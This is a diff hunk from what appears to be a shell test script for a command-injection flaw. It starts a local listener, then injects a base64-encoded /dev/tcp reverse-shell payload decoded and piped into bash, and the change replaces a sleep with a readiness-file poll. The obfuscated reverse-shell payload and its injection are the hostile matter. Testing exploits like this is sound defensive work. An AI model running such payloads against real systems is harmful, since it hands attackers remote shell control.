@@ -149,9 +149,10 @@ inject '/mi/tmp/slt 0.1' >/dev/null
 { echo 'id'; echo exit; } | python3 -c "
 import socket, sys
 s = socket.create_server(('127.0.0.1', $shell_port)); s.settimeout(20)
+open('$dir/listening', 'w')
 c, _ = s.accept(); c.sendall(sys.stdin.buffer.read()); print(c.makefile().read())" >"$dir/shell" &
 listener=$!
-sleep 0.5
+for _ in $(seq 200); do [ -e "$dir/listening" ] && break; sleep 0.05; done
 payload=$(printf 'exec 3<>/dev/tcp/127.0.0.1/%s; exec sh <&3 >&3 2>&3' "$shell_port" | base64 -w 0)
 inject "echo $payload | base64 -d | bash" >/dev/null
 wait "$listener"
